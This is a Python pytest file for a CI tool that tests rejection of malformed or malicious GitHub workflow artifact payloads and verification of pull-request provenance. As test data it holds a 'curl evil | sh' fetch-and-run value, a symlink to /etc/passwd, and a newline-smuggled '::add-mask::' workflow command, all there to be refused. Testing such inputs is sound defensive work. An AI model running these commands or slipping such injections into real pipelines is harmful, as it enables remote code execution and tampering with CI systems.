from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from catalog_sync.errors import GitHubError
from catalog_sync.github.artifact import MAX_ARTIFACT_BYTES
from catalog_sync.github.artifact import MAX_FILES
from catalog_sync.github.artifact import MAX_PAYLOAD_BYTES
from catalog_sync.github.artifact import CommentPayload
from catalog_sync.github.artifact import build_payload
from catalog_sync.github.artifact import read_payloads
from catalog_sync.github.provenance import verify_pull_request

SHA = "c0ffee" + "0" * 34


def _write(folder: Path, payload: dict[str, Any], name: str = "comment.json") -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(payload))


def _payload(**changes: Any) -> dict[str, Any]:
    payload = build_payload(
        pull_request=12, head_sha=SHA, environment="staging", plan=None
    )
    payload.update(changes)
    return payload


def test_valid_payloads_from_several_environments_are_read(tmp_path):
    _write(tmp_path / "plan-comment-staging", _payload())
    _write(tmp_path / "plan-comment-production", _payload(environment="production"))
    payloads = read_payloads(tmp_path)
    assert {p.environment for p in payloads} == {"staging", "production"}
    assert payloads[0].pull_request == 12


@pytest.mark.parametrize(
    ("changes", "where"),
    [
        ({"pull_request": "12"}, "pull_request"),
        ({"pull_request": True}, "pull_request"),
        ({"head_sha": "HEAD"}, "head_sha"),
        ({"environment": "prod -->"}, "environment"),
        ({"run": "curl evil | sh"}, "(root)"),
    ],
)
def test_payload_failing_the_schema_is_rejected(tmp_path, changes, where):
    _write(tmp_path, _payload(**changes))
    with pytest.raises(GitHubError, match=rf"schema at {re.escape(where)}"):
        read_payloads(tmp_path)


def test_oversized_payload_is_rejected_before_parsing(tmp_path):
    (tmp_path / "comment.json").write_bytes(b"{" + b" " * MAX_PAYLOAD_BYTES + b"}")
    with pytest.raises(GitHubError, match="cap"):
        read_payloads(tmp_path)


def test_deeply_nested_json_is_a_clean_error(tmp_path):
    (tmp_path / "comment.json").write_text("[" * 100_000)
    with pytest.raises(GitHubError, match="not UTF-8 JSON"):
        read_payloads(tmp_path)


def test_symlink_in_the_artifact_is_refused(tmp_path):
    os.symlink("/etc/passwd", tmp_path / "comment.json")
    with pytest.raises(GitHubError, match="symbolic link"):
        read_payloads(tmp_path)


def test_empty_artifact_and_disagreeing_payloads_are_refused(tmp_path):
    with pytest.raises(GitHubError, match=r"no comment\.json"):
        read_payloads(tmp_path)
    _write(tmp_path / "a", _payload())
    _write(tmp_path / "b", _payload(pull_request=13))
    with pytest.raises(GitHubError, match="disagree"):
        read_payloads(tmp_path)


def test_schema_error_text_is_one_line_so_it_cannot_inject_workflow_commands(tmp_path):
    _write(tmp_path, _payload(head_sha="\n::add-mask::x\n"))
    with pytest.raises(GitHubError) as caught:
        read_payloads(tmp_path)
    assert "\n" not in str(caught.value)


def _claim(number: int = 12, sha: str = SHA) -> CommentPayload:
    return CommentPayload(
        pull_request=number, head_sha=sha, environment="s", preview="validation-only"
    )


def test_verify_accepts_the_open_pull_request_whose_head_is_the_run(
    fake_github, client
):
    fake_github.pulls[12] = {"number": 12, "state": "open", "head": {"sha": SHA}}
    verify_pull_request(client, _claim(), run_head_sha=SHA, run_pull_requests=())


def test_verify_refuses_a_pull_request_the_run_did_not_build(fake_github, client):
    fake_github.pulls[12] = {"number": 12, "state": "open", "head": {"sha": SHA}}
    fake_github.pulls[40] = {"number": 40, "state": "open", "head": {"sha": "d" * 40}}
    with pytest.raises(GitHubError, match="head is not the workflow run's commit"):
        verify_pull_request(client, _claim(40), run_head_sha=SHA, run_pull_requests=())
    with pytest.raises(GitHubError, match="not the workflow run's"):
        verify_pull_request(
            client, _claim(12), run_head_sha=SHA, run_pull_requests=(7,)
        )
    with pytest.raises(GitHubError, match="different commit"):
        verify_pull_request(
            client, _claim(sha="e" * 40), run_head_sha=SHA, run_pull_requests=()
        )
    with pytest.raises(GitHubError, match="malformed"):
        verify_pull_request(client, _claim(), run_head_sha="", run_pull_requests=())
    with pytest.raises(GitHubError, match="malformed"):
        verify_pull_request(
            client, _claim(), run_head_sha=f"{SHA}\n", run_pull_requests=()
        )


def test_verify_refuses_a_closed_pull_request(fake_github, client):
    fake_github.pulls[12] = {"number": 12, "state": "closed", "head": {"sha": SHA}}
    with pytest.raises(GitHubError, match="not open"):
        verify_pull_request(client, _claim(), run_head_sha=SHA, run_pull_requests=(12,))


def test_missing_artifact_folder_is_refused(tmp_path):
    missing = tmp_path / "missing"
    with pytest.raises(GitHubError) as caught:
        read_payloads(missing)
    assert caught.value.message == f"artifact folder {missing} does not exist"


def test_artifact_over_the_total_size_cap_is_refused_before_reading(tmp_path):
    _write(tmp_path / "a", _payload())
    (tmp_path / "b").mkdir()
    with (tmp_path / "b" / "padding.bin").open("wb") as handle:
        handle.truncate(MAX_ARTIFACT_BYTES)  # sparse: the size counts, not the disk
    with pytest.raises(GitHubError, match=f"larger than {MAX_ARTIFACT_BYTES} bytes"):
        read_payloads(tmp_path)


def test_artifact_with_too_many_payloads_is_refused(tmp_path):
    for index in range(MAX_FILES + 1):
        _write(tmp_path / f"plan-comment-{index:02d}", _payload())
    with pytest.raises(GitHubError, match=f"more than {MAX_FILES} payloads"):
        read_payloads(tmp_path)


def test_a_payload_that_is_not_a_regular_file_is_refused(tmp_path):
    (tmp_path / "comment.json").mkdir()
    with pytest.raises(GitHubError, match=r"comment\.json: not a regular file"):
        read_payloads(tmp_path)
